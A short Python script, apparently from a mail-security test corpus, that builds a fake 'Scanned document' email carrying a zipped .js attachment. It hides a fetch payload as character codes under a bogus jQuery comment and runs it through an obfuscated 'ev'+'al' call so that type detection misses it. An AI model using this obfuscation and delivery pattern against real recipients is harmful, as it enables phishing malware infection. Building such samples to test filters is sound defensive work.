"""A script as a list of numbers, which no typer takes for one, named .js."""
from kit import *


def make():
    codes = ",".join(str(ord(c)) for c in programs.FETCH_JS)
    js = "/* jQuery */var k=[" + codes + "],o='';for(var i in k){o+=String.fromCharCode(k[i]);}(function(){return this})()['ev'+'al'](o);"
    return (Mail("Scanned document", "scanner@example.co.jp", to="soumu@example.co.jp")
            .text("scan\n")
            .attach("SCAN_0412.zip", Zip().add("SCAN_0412.js", js.encode()).bytes()).bytes())
